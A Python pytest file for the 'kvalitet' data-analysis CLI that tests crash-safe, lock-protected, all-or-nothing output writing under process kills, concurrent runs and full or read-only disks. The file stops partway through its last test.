"""Outputs never touch what kvalitet did not write, are all or nothing, survive kill -9 at any
point, take turns, and fail cleanly on a full or read-only disk (analysis/outputs.py).

Each case of issue 10 ("user files deleted", "faults") is built here from scratch. The
disk-full cases run on a real full file system (a 2 MB tmpfs mounted for the test, when the
tests run as root and may mount) and on a file-size limit (RLIMIT_FSIZE: EFBIG, everywhere).
"""

from __future__ import annotations

import errno
import json
import os
import random
import resource
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from conftest import PYTHON, run_cli_command, tree_snapshot, wait_until_unlocked

from analysis import outputs, paths
from analysis.cli import main

SEED = "seed_hovedopptak_andel_kvinner_2007_2018.csv"
INTEGRATION = "seed_studiebarometeret_2017_integrering.csv"
NOTHING_CHANGED = "; nothing was changed"


def python() -> str:
    return str(PYTHON) if PYTHON.exists() else sys.executable


def kvalitet(*args, env: dict | None = None, **kwargs) -> subprocess.CompletedProcess:
    """``python -m analysis ARGS`` in a subprocess (the real entry point)."""
    env = env or dict(os.environ, PYTHONIOENCODING="utf-8")
    return subprocess.run(
        [python(), "-m", "analysis", *map(str, args)],
        cwd=paths.ROOT,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=300,
        **kwargs,
    )


def leftovers(parent: Path, name: str) -> list[str]:
    """What a run leaves beside its output besides the output itself (locks, temporary folders)."""
    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}.kvalitet"))


@pytest.fixture(scope="module")
def raws(tmp_path_factory) -> dict[str, Path]:
    """Two raw folders that give two different ingest outputs (A: the admission table; B: the
    admission table and the 2017 integration extract)."""
    base = tmp_path_factory.mktemp("raws")
    a, b = base / "A", base / "B"
    a.mkdir()
    b.mkdir()
    shutil.copy(paths.RAW / SEED, a)
    shutil.copy(paths.RAW / SEED, b)
    shutil.copy(paths.RAW / INTEGRATION, b)
    return {"A": a, "B": b}


@pytest.fixture(scope="module")
def snapshots(raws, tmp_path_factory) -> dict[str, dict[str, bytes]]:
    """The complete ingest output of each raw folder, byte for byte (marker included)."""
    snaps = {}
    for name, raw in raws.items():
        out = tmp_path_factory.mktemp(f"snap{name}") / "validated"
        assert main(["ingest", "--data", str(raw), "--out", str(out)]) == 0
        snaps[name] = tree_snapshot(out)
        assert outputs.MARKER in snaps[name]
    assert snaps["A"] != snaps["B"]
    return snaps


# --- ownership: a folder is kvalitet's only by its marker ---------------------------------------


def _user_folder(folder: Path) -> dict[str, bytes]:
    """A folder of the adviser's that merely has a manifest.json (the case that lost a .docx)."""
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text('{"notebooks": [], "outputs": [], "stage": "validated", "inputs": []}')
    (folder / "kvalitetsmelding-utkast.docx").write_bytes(b"PK\x03\x04 my draft")
    (folder / "data").mkdir()
    (folder / "data" / "svar.csv").write_text("studprog_kod;aar\nA;2024\n")
    return tree_snapshot(folder)


def test_report_and_ingest_refuse_a_folder_with_only_a_manifest(tmp_path, capsys):
    folder = tmp_path / "rapport"
    before = _user_folder(folder)
    assert main(["report", "--no-static", "--out", str(folder)]) == 1
    err = capsys.readouterr().err
    assert "not an earlier report" in err and outputs.MARKER in err and "Traceback" not in err
    assert main(["ingest", "--data", str(paths.RAW), "--out", str(folder)]) == 1
    err = capsys.readouterr().err
    assert "not an earlier validated data" in err
    assert tree_snapshot(folder) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rapport"], "no lock or temporary folder left"


def test_an_earlier_output_with_a_file_of_the_user_is_not_replaced(tmp_path, raws, snapshots, capsys):
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    (out / "notater.docx").write_bytes(b"mine")
    (out / "extra").mkdir()
    (out / "extra" / "x.csv").write_text("1\n")
    before = tree_snapshot(out)
    capsys.readouterr()
    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "holds files kvalitet did not write: extra, notater.docx" in err
    assert tree_snapshot(out) == before
    # moved out, the folder is the earlier output again and is replaced
    shutil.rmtree(out / "extra")
    (out / "notater.docx").unlink()
    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["B"]


def test_an_output_of_another_kind_is_not_replaced(tmp_path, raws, capsys):
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    before = tree_snapshot(out)
    with pytest.raises(Exception, match="holds an earlier validated data, not an earlier report"):
        from analysis.report.build import build_report

        build_report(out_dir=out, static=False, progress=lambda _: None)
    assert tree_snapshot(out) == before


def test_an_empty_folder_may_be_the_output(tmp_path, raws, snapshots):
    out = tmp_path / "validated"
    out.mkdir()
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["A"]


def test_an_output_that_is_or_is_inside_an_input_is_refused(tmp_path, capsys):
    data = tmp_path / "data"
    data.mkdir()
    table = data / SEED
    shutil.copy(paths.RAW / SEED, table)
    before = tree_snapshot(tmp_path)
    cases = [
        (["flags", table, "--out", table.with_suffix(".csv")], "is an input"),
        (["flags", data, "--out", data / "flags.csv"], "is inside the input folder"),
        (["wellbeing", data, "--out", data / "w.parquet"], "is inside the input folder"),
        (["integration", table, "--config", tmp_path / "x.toml", "--out", tmp_path / "x.toml"], "--out must end in"),
        (["survey", data, "--out", data], "is an input"),
        (["survey", data, "--out", data / "s.csv"], "is inside the input folder"),
        (["ingest", "--data", data, "--out", data], "is an input"),
        (["ingest", "--data", data, "--out", data / "validated"], "is inside the input folder"),
        (["ingest", "--data", data, "--out", tmp_path], "is inside --out"),
        (["report", "--data", data, "--out", tmp_path], "is inside --out"),
    ]
    for args, expected in cases:
        assert main([str(a) for a in args]) == 2, args
        err = capsys.readouterr().err
        assert expected in err and "Traceback" not in err, (args, err)
    # the same file by another name (a hard link, a symbolic link) is the same input
    os.link(table, tmp_path / "link.csv")
    (tmp_path / "sym.csv").symlink_to(table)
    before = tree_snapshot(tmp_path)
    for other in ("link.csv", "sym.csv"):
        assert main(["flags", str(table), "--out", str(tmp_path / other)]) == 2
        assert "is an input" in capsys.readouterr().err
    assert tree_snapshot(tmp_path) == before


def test_a_table_written_into_a_raw_data_folder_is_refused(tmp_path, capsys, monkeypatch):
    """A raw-data folder is read whole by ingest and report: a table written into it beside the
    file it was made from would be read as data next time, and under a raw file's name it
    replaced that file (exit 0). A raw folder is one with a provenance manifest (its
    subfolders too), or the default data/raw."""
    raw = tmp_path / "raw"
    shutil.copytree(paths.RAW, raw)
    other = tmp_path / "other"  # the default data folder, here without a manifest
    other.mkdir()
    monkeypatch.setattr(paths, "RAW", other)
    table = raw / SEED
    before = tree_snapshot(tmp_path)
    cases = [
        ["flags", table, "--out", raw / "dbh_t210_ntnu_fakultetskoder.csv"],  # a raw file's name
        ["flags", table, "--out", raw / "flagg.xlsx"],
        ["integration", raw / INTEGRATION, "--out", raw / "dbh_api" / "integrering.parquet"],
        ["wellbeing", raw / "shot_headline_figures_national.csv", "--out", other / "shot.csv"],
        ["survey", table, "--out", raw / "dbh_api"],
    ]
    for args in cases:
        assert main([str(a) for a in args]) == 2, args
        err = capsys.readouterr().err
        assert "is inside the raw-data folder" in err and "Traceback" not in err, (args, err)
    assert tree_snapshot(tmp_path) == before
    # beside it is fine
    assert main(["flags", str(table), "--out", str(tmp_path / "flagg.xlsx")]) == 0


# --- one run at a time ------------------------------------------------------------------------------


def test_a_second_run_into_the_same_output_says_another_run_is_busy(tmp_path, raws, snapshots, capsys):
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    holder = outputs._Lock(outputs.Path(os.path.abspath(out)))
    holder.acquire()  # another run, as far as the lock can tell
    try:
        capsys.readouterr()
        assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 1
        err = capsys.readouterr().err
        assert (
            f"kvalitet ingest: another kvalitet run (process {os.getpid()}) is writing {out.absolute()}; "
            "wait for it to finish and run again" in err
        )
        assert tree_snapshot(out) == snapshots["A"]
        table = tmp_path / "flags.csv"
        holder_file = outputs._Lock(outputs.Path(os.path.abspath(table)))
        holder_file.acquire()
        assert main(["flags", str(raws["A"]), "--out", str(table)]) == 1
        assert "another kvalitet run" in capsys.readouterr().err and not table.exists()
        holder_file.release()
        report = tmp_path / "report"
        holder_report = outputs._Lock(outputs.Path(os.path.abspath(report)))
        holder_report.acquire()
        assert main(["report", "--no-static", "--out", str(report)]) == 1
        err = capsys.readouterr().err
        assert f"kvalitet report: another kvalitet run (process {os.getpid()}) is writing {report}" in err
        assert "Rapporten ble ikke laget; den forrige rapporten (om noen) er uendret." in err
        holder_report.release()
        assert not report.exists()
    finally:
        holder.release()
    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["B"]
    assert leftovers(tmp_path, "validated") == []


def test_two_concurrent_runs_never_race(tmp_path, raws, snapshots):
    """Two real processes into the same --out, started together, three times: each finishes or
    says another run is busy; the output is always one complete output; nothing is left."""
    out = tmp_path / "validated"
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    for _ in range(3):
        procs = [
            subprocess.Popen(
                [python(), "-m", "analysis", "ingest", "--data", str(raws[k]), "--out", str(out)],
                cwd=paths.ROOT,
                env=env,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for k in ("A", "B")
        ]
        results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
        for p in procs:
            p.stdout.close()
            p.stderr.close()
        for rc, err in results:
            assert rc == 0 or (rc == 1 and "another kvalitet run" in err), err
            assert "unexpected" not in err and "Traceback" not in err
        assert any(rc == 0 for rc, _ in results)
        assert tree_snapshot(out) in (snapshots["A"], snapshots["B"])
        assert leftovers(tmp_path, "validated") == []


# --- crash-safe swap ----------------------------------------------------------------------------------

# Runs the CLI with the swap instrumented to kill the process (SIGKILL) at the worst moment.
_CRASH = r"""
import os, signal, sys
from analysis import outputs
where = sys.argv[1]
if where == "after-exchange":
    real = outputs._rename2
    def rename2(src, dst, flags):
        done = real(src, dst, flags)
        if done and flags == outputs._RENAME_EXCHANGE:
            os.kill(os.getpid(), signal.SIGKILL)
        return done
    outputs._rename2 = rename2
elif where == "between-renames":
    outputs.EXCHANGE = False  # the two-rename swap of file systems that cannot exchange
    real = os.rename
    def rename(src, dst):
        real(src, dst)
        if str(dst).endswith("/old"):
            os.kill(os.getpid(), signal.SIGKILL)
    outputs.os.rename = rename
elif where == "ctrl-c-between-renames":
    outputs.EXCHANGE = False
    real = os.rename
    def rename(src, dst):
        real(src, dst)
        if str(dst).endswith("/old"):
            os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C, its handler runs right here
    outputs.os.rename = rename
elif where == "between-files":
    real = os.replace
    def replace(src, dst):
        real(src, dst)
        os.kill(os.getpid(), signal.SIGKILL)
    outputs.os.replace = replace
from analysis.cli import main
sys.exit(main(sys.argv[2:]))
"""


def crash(where: str, *args) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    return subprocess.run(
        [python(), "-c", _CRASH, where, *map(str, args)],
        cwd=paths.ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_killed_right_after_the_exchange_the_new_output_is_official(tmp_path, raws, snapshots):
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    proc = crash("after-exchange", "ingest", "--data", raws["B"], "--out", out)
    assert proc.returncode == -signal.SIGKILL
    assert tree_snapshot(out) == snapshots["B"]  # complete at once: no moment without an output
    assert leftovers(tmp_path, "validated"), "the killed run left its temporary folder (with the old output)"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == [], "the next start removed what the killed run left"


def test_killed_between_the_two_renames_the_next_start_restores_the_last_good_output(tmp_path, raws, snapshots, capsys):
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    proc = crash("between-renames", "ingest", "--data", raws["B"], "--out", out)
    assert proc.returncode == -signal.SIGKILL
    assert not out.exists()  # the window the exchange closes, on a file system that cannot exchange
    # the next start, even one that then fails on its input, puts the last good output back first
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "x.csv").write_text("Studieprogram;2017\nA;abc\n", encoding="utf-8")
    capsys.readouterr()
    assert main(["ingest", "--data", str(bad), "--out", str(out)]) == 1
    captured = capsys.readouterr()
    assert "put back the earlier" in captured.out
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == []


def test_a_ctrl_c_between_the_two_renames_never_loses_the_earlier_output(tmp_path, raws, snapshots):
    """On a file system that cannot exchange (macOS: no renameat2) the swap is two renames; a
    Ctrl-C between them used to be handled at once, and the clean-up then removed the private
    folder holding the earlier output: no output at all, and nothing for the next run to put
    back. The swap is not interrupted: the output is the new one, whole, and nothing is left."""
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    proc = crash("ctrl-c-between-renames", "ingest", "--data", raws["B"], "--out", out)
    assert "Traceback" not in proc.stderr, proc.stderr
    # the Ctrl-C is handled after the swap: the message says the output was written, where it
    # said "nothing was replaced" of an output that had been
    assert proc.stderr.endswith(f"kvalitet: interrupted after {out} was written (whole); nothing else was replaced\n")
    assert out.exists(), "the earlier output was removed with the private folder"
    assert tree_snapshot(out) == snapshots["B"]
    assert leftovers(tmp_path, "validated") == []


def test_several_files_are_all_new_or_all_old(tmp_path):
    """survey --out s.csv writes three files together: killed between two of the renames, the
    next start completes the set (the journal is the commit point)."""
    from analysis.synth import generate_respondents, write_respondents

    data = tmp_path / "in"
    data.mkdir()
    write_respondents(generate_respondents(400, 4, 5, 2, seed=1), data / "r1.csv")
    out = tmp_path / "out" / "s.csv"
    out.parent.mkdir()
    assert main(["survey", str(data), "--out", str(out)]) == 0
    names = ["s.csv", "s_indices.csv", "s_changes.csv"]
    old = {n: (out.parent / n).read_bytes() for n in names}
    write_respondents(generate_respondents(400, 4, 5, 2, seed=2), data / "r1.csv")
    expected = tmp_path / "expected" / "s.csv"
    expected.parent.mkdir()
    assert main(["survey", str(data), "--out", str(expected)]) == 0
    new = {n: (expected.parent / n).read_bytes() for n in names}
    assert new != old
    proc = crash("between-files", "survey", data, "--out", out)
    assert proc.returncode == -signal.SIGKILL
    now = {n: (out.parent / n).read_bytes() for n in names}
    assert now != old and now != new, "killed half-way (this is what the journal repairs)"
    files = outputs.OutputFiles([out.parent / n for n in names])
    files.open()
    files.close()
    assert {n: (out.parent / n).read_bytes() for n in names} == new
    assert sorted(p.name for p in out.parent.iterdir()) == sorted(names)


@pytest.mark.slow
def test_kill_9_at_random_points_of_ingest_leaves_the_last_good_output(tmp_path, raws, snapshots):
    rng = random.Random(20251)
    out = tmp_path / "validated"
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    for i in range(10):
        raw = raws["B" if i % 2 == 0 else "A"]
        proc = subprocess.Popen(
            [python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
            cwd=paths.ROOT,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(rng.uniform(0.5, 3.5))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        assert tree_snapshot(out) in (snapshots["A"], snapshots["B"]), f"kill {i}: the official output is whole"
    assert main(["ingest", "--data", str(raws["B"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["B"]
    assert leftovers(tmp_path, "validated") == [], "no stale temporary data after the next start"


@pytest.mark.slow
def test_kill_9_at_random_points_of_report_leaves_the_last_good_report(tmp_path, socket_tmp):
    out = tmp_path / "report"
    assert kvalitet("report", "--no-static", "--out", out).returncode == 0
    good = tree_snapshot(out)
    rng = random.Random(7)
    # the temporary folder the runs see ($TMPDIR), where their kernels' folders are made too
    # (one under tmp_path is too deep for a kernel's sockets: they went to /tmp, unseen here)
    shared_tmp = socket_tmp
    env = dict(os.environ, PYTHONIOENCODING="utf-8", TMPDIR=str(shared_tmp))
    # --force: without it each run found the report up to date and ended within a second, long
    # before its kill (2 to 16 s), so no kill came while a build ran
    killed_running = []
    for i in range(4):
        proc = subprocess.Popen(
            [python(), "-m", "analysis", "report", "--no-static", "--force", "--out", str(out)],
            cwd=paths.ROOT,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(rng.uniform(2, 16))
        killed_running.append(proc.poll() is None)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        now = tree_snapshot(out)
        manifest = json.loads(now["manifest.json"])
        # a finished build differs from the earlier one only in its timestamps (manifest) — or it is the earlier one
        assert {k: v for k, v in now.items() if k != "manifest.json"} == {
            k: v for k, v in good.items() if k != "manifest.json"
        }, f"kill {i}"
        assert sorted(o["file"] for o in manifest["outputs"]) == sorted(
            k for k in now if k not in ("manifest.json", outputs.MARKER)
        )
    assert any(killed_running)  # (a build takes longer than the shortest wait, 3.0 s)
    from analysis.report.kernel import FOLDER_PREFIX, LOCK_NAME

    for lock in shared_tmp.glob(f"{FOLDER_PREFIX}*/{LOCK_NAME}"):
        wait_until_unlocked(lock)  # (a killed build's kernel ends once it sees its build gone)
    # (--force: a build that finds the report up to date starts no kernel, and so removes no
    # killed build's kernel folder)
    assert kvalitet("report", "--no-static", "--force", "--out", out, env=env).returncode == 0
    assert leftovers(tmp_path, "report") == [], "no stale temporary data after the next start"
    # nothing of kvalitet's, and no data, in the shared temporary folder: the killed builds'
    # kernel folders (sockets, connection files) removed when the next build started its kernels
    assert not [p.name for p in shared_tmp.rglob("*") if p.name.startswith("kvalitet") or p.suffix == ".pickle"]


def test_stale_temporary_folders_and_locks_are_removed_at_the_next_start(tmp_path, raws, snapshots):
    out = tmp_path / "validated"
    stale = tmp_path / ".validated.kvalitet-tmp-dead1234" / "scratch"
    stale.mkdir(parents=True)
    (stale / "report-data.pickle").write_bytes(b"respondent data of a killed run")
    (tmp_path / ".validated.kvalitet-lock").write_text("99999\n")
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == []


def test_a_report_build_keeps_its_data_in_a_private_folder_beside_the_output(tmp_path, monkeypatch):
    """Nothing with data in the shared temporary folder; the build's scratch is 0700 and gone
    after the build."""
    import tempfile

    from analysis.report import build

    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    seen = {}
    real = build.execute_notebooks

    def spy(*args, work=None, **kwargs):
        private = Path(work).parent
        seen["private"] = private
        seen["mode"] = stat.S_IMODE(private.stat().st_mode)
        return real(*args, work=work, **kwargs)

    monkeypatch.setattr(build, "execute_notebooks", spy)
    out = tmp_path / "out" / "report"
    build.build_report(out_dir=out, static=False, progress=lambda _: None)
    assert seen["private"].parent == out.parent and seen["private"].name.startswith(".report.kvalitet-tmp-")
    assert seen["mode"] == 0o700
    assert not seen["private"].exists()
    assert list(shared.iterdir()) == []
    assert leftovers(out.parent, "report") == []


def test_a_failed_notebook_is_kept_privately_under_a_new_name(tmp_path, private_state_dir):
    from analysis.report.notebooks import keep_failed

    notebook = tmp_path / "04_studiebarometeret.ipynb"
    notebook.write_text('{"cells": []}', encoding="utf-8")
    kept = [keep_failed(notebook), keep_failed(notebook)]
    assert kept[0] != kept[1] and all(k.parent == private_state_dir for k in kept)
    assert all(k.read_text(encoding="utf-8") == '{"cells": []}' for k in kept)
    assert all(stat.S_IMODE(k.stat().st_mode) == 0o600 for k in kept)
    assert stat.S_IMODE(private_state_dir.stat().st_mode) == 0o700
    # a symbolic link is never followed (the old fixed $TMPDIR name could be planted)
    link = tmp_path / "05_shot.ipynb"
    link.symlink_to(tmp_path / "elsewhere.ipynb")
    (tmp_path / "elsewhere.ipynb").write_text("secret", encoding="utf-8")
    assert keep_failed(link) is None


# --- disk full, read-only ------------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A 2 MB tmpfs mounted for the test (root only; skipped where mounting is not allowed)."""
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small file system needs root")
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("this machine does not allow mounting a tmpfs")
    yield disk
    subprocess.run(["umount", "-l", str(disk)], capture_output=True)


def fill(disk: Path) -> None:
    """Fill the file system to the last byte."""
    with open(disk / "filler", "wb", buffering=0) as fh:
        for size in (1 << 16, 512, 1):
            try:
                while True:
                    fh.write(b"\0" * size)
            except OSError:
                pass


def test_disk_full_changes_nothing_for_every_command_that_writes(small_disk, raws, snapshots):
    """Simulated with a real full file system (tmpfs of 2 MB, filled to the last byte)."""
    from analysis.synth import generate_respondents, write_respondents

    respondents = small_disk.parent / "respondents"
    respondents.mkdir()
    write_respondents(generate_respondents(3000, 8, 20, 2, seed=4), respondents / "r.csv")
    out = small_disk / "validated"
    assert kvalitet("ingest", "--data", raws["A"], "--out", out).returncode == 0
    assert kvalitet("survey", respondents, "--out", small_disk / "s.csv").returncode == 0
    assert kvalitet("flags", raws["A"], "--out", small_disk / "flags.csv").returncode == 0
    fill(small_disk)
    before = tree_snapshot(small_disk)
    runs = {
        "ingest": (["ingest", "--data", raws["B"], "--out", out], out),
        "survey": (["survey", respondents, "--out", small_disk / "s.csv"], small_disk / "s.csv"),
        "flags": (["flags", raws["B"], "--out", small_disk / "flags.csv"], small_disk / "flags.csv"),
        "integration": (["integration", raws["B"], "--out", small_disk / "i.csv"], small_disk / "i.csv"),
        "synth": (["synth", "--respondents", "20000", "--out", small_disk / "big.parquet"], small_disk / "big.parquet"),
    }
    for command, (args, target) in runs.items():
        proc = kvalitet(*args)
        assert proc.returncode == 1, (command, proc.stderr)
        assert f"kvalitet {command}: could not write {Path(os.path.abspath(target))}" in proc.stderr, proc.stderr
        assert "no space left (free space and run again)" + NOTHING_CHANGED in proc.stderr
        assert "Traceback" not in proc.stderr and "unexpected" not in proc.stderr
        assert tree_snapshot(small_disk) == before, command
        assert sorted(p.name for p in small_disk.iterdir() if p.name.startswith(".")) == [], command


def test_a_file_size_limit_changes_nothing(tmp_path, raws, snapshots):
    """Simulated with RLIMIT_FSIZE (works without root): the write fails with EFBIG."""
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    proc = subprocess.run(
        [python(), "-m", "analysis", "ingest", "--data", str(raws["B"]), "--out", str(out)],
        cwd=paths.ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (3000, 3000)),
    )
    assert proc.returncode == 1
    assert f"could not write {out}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == []


def test_a_read_only_folder_changes_nothing(tmp_path, raws, snapshots):
    """Root: a tmpfs remounted read-only (EROFS); others: a folder without write permission
    (EACCES; root is not stopped by permissions)."""
    if os.geteuid() == 0:
        folder = tmp_path / "ro"
        folder.mkdir()
        if subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)], capture_output=True
        ).returncode:
            pytest.skip("this machine does not allow mounting a tmpfs")
        reason = "the folder is on a read-only file system (choose another --out)"
    else:
        folder = tmp_path / "ro"
        folder.mkdir()
        reason = "no permission to write there"
    try:
        out = folder / "validated"
        assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
        if os.geteuid() == 0:
            subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
        else:
            folder.chmod(0o555)
        for args, target in (
            (["ingest", "--data", raws["B"], "--out", out], out),
            (["flags", raws["B"], "--out", folder / "f.csv"], folder / "f.csv"),
        ):
            proc = kvalitet(*args)
            assert proc.returncode == 1, proc.stderr
            assert f"could not write {target}: {reason}" in proc.stderr and NOTHING_CHANGED in proc.stderr, proc.stderr
            assert "Traceback" not in proc.stderr
        assert tree_snapshot(out) == snapshots["A"]
    finally:
        if os.geteuid() == 0:
            subprocess.run(["umount", "-l", str(folder)], capture_output=True)
        else:
            folder.chmod(0o755)


BESIDE_DATA = (
    "(the stage folder beside the data): no permission to write there (check the folder's permissions "
    "or copy the data folder to a place you can write and give that as --data); nothing was changed"
)


def test_a_read_only_folder_around_the_data_names_the_stage_folder_not_out(tmp_path):
    """The stages (and their lock) go beside the data folder: when that place cannot be written,
    derive, report and ingest name it and say what to do, never "unexpected error" nor the
    report's --out (which is writable); an --out given to ingest is named as --out."""
    data = tmp_path / "data"
    (data / "raw").mkdir(parents=True)
    shutil.copy(paths.RAW / SEED, data / "raw")
    raw = data / "raw"
    data.chmod(0o555)
    try:
        lock = f"could not write {data / '.kvalitet-stages.lock'} {BESIDE_DATA}"
        for args in (["derive", "--data", raw], ["report", "--no-static", "--data", raw, "--out", tmp_path / "rep"]):
            rc, _, stderr = run_cli_command(args, permissions=True)
            assert rc == 1 and lock in stderr, (args, stderr)
        data.chmod(0o755)
        (data / ".kvalitet-stages.lock").touch()  # left by an earlier run: the stage folder is next
        data.chmod(0o555)
        for args in (["derive", "--data", raw], ["ingest", "--data", raw]):
            rc, _, stderr = run_cli_command(args, permissions=True)
            assert rc == 1 and f"could not write {data / 'validated'} {BESIDE_DATA}" in stderr, (args, stderr)
        rc, _, stderr = run_cli_command(["ingest", "--data", raw, "--out", data / "v"], permissions=True)
        assert rc == 1, stderr
        assert (
            f"could not write {data / 'v'}: no permission to write there (check the folder's permissions or choose another --out)"
            in stderr
        )
    finally:
        data.chmod(0o755)
    assert sorted(p.name for p in data.iterdir()) == [".kvalitet-stages.lock", "raw"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


BROKEN_T123 = "Årstall;Avdelingskode;Antall totalt;Antall kvinner;Antall menn\n2020;12;x;1;1\n"


@pytest.mark.parametrize("command", ["derive", "ingest", "report"])
def test_a_run_that_fails_on_the_data_leaves_no_folder_beside_it(tmp_path, command):
    """A run on a data folder not named raw keeps its stages in NAME.kvalitet beside it; one
    that failed on a bad raw file left that folder behind, empty but for the stages' lock. The
    run made it, and removes it again: nothing was produced, so nothing is added beside the
    adviser's data. A successful run keeps it; a folder that was there before stays."""
    data = tmp_path / "nedlastet"
    data.mkdir()
    shutil.copy(paths.RAW / SEED, data)
    (data / "ødelagt.csv").write_text(BROKEN_T123, encoding="utf-8")
    out = ["--no-static", "--out", tmp_path / "rapport"] if command == "report" else []
    rc, stdout, stderr = run_cli_command([command, "--data", data, *out])
    assert rc == 1 and f"{data / 'ødelagt.csv'}:2:Antall totalt: 'x'" in stdout + stderr, stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["nedlastet"]
    if command == "report":
        return  # (a report is built in a browser: the stages' part is the same as derive's)
    (data / "ødelagt.csv").unlink()
    rc, _, stderr = run_cli_command([command, "--data", data])
    assert rc == 0, stderr
    assert (tmp_path / "nedlastet.kvalitet" / "validated" / "manifest.json").is_file()
    (data / "ødelagt.csv").write_text(BROKEN_T123, encoding="utf-8")
    before = tree_snapshot(tmp_path / "nedlastet.kvalitet")
    assert run_cli_command([command, "--data", data])[0] == 1
    assert tree_snapshot(tmp_path / "nedlastet.kvalitet") == before


def test_a_stage_folder_that_was_there_before_is_never_removed(tmp_path):
    """Only a folder the run made goes: an empty NAME.kvalitet (made by hand, or left by an
    earlier version) stays as it was."""
    data = tmp_path / "nedlastet"
    data.mkdir()
    (data / "ødelagt.csv").write_text(BROKEN_T123, encoding="utf-8")
    (tmp_path / "nedlastet.kvalitet").mkdir()
    rc, _, _ = run_cli_command(["derive", "--data", data])
    assert rc == 1 and (tmp_path / "nedlastet.kvalitet").is_dir()


def test_ingest_that_fails_leaves_no_folder_it_made_for_its_out(tmp_path, capsys):
    """--out in folders that do not exist yet: made for the output, removed when it fails."""
    data = tmp_path / "nedlastet"
    data.mkdir()
    (data / "ødelagt.csv").write_text(BROKEN_T123, encoding="utf-8")
    assert main(["ingest", "--data", str(data), "--out", str(tmp_path / "ny" / "mappe" / "validated")]) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["nedlastet"]


def test_a_run_waiting_for_the_stages_lock_locks_anew_when_a_failed_run_removes_it(tmp_path):
    """A failed run removes the lock file and the folder it made while it still holds the lock:
    a run waiting for it then makes both again and locks the new file, so a third run cannot
    take the lock beside it (two runs never work on the stages at once)."""
    import threading

    from analysis import pipeline

    data = tmp_path / "nedlastet"
    data.mkdir()
    stages = pipeline.Stages.of(data)
    lock = stages.validated.parent / pipeline.LOCK
    held, done = threading.Event(), threading.Event()

    def second_run() -> None:
        with pipeline.locked(stages):
            held.set()
            done.wait(30)

    waiting = threading.Thread(target=second_run)
    with pytest.raises(RuntimeError), pipeline.locked(stages):
        waiting.start()
        time.sleep(0.3)  # (the second run now waits on this run's lock file)
        assert not held.is_set()
        raise RuntimeError("a bad raw file")
    try:
        assert held.wait(30)
        with pytest.raises(BlockingIOError):
            os.close(outputs.lock_file(lock, wait=False))
    finally:
        done.set()
        waiting.join(30)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["nedlastet"]


def test_a_failure_on_a_file_beside_the_output_is_not_the_outputs():
    """A file that cannot be read in the folder the output goes in (an input beside it) is not a
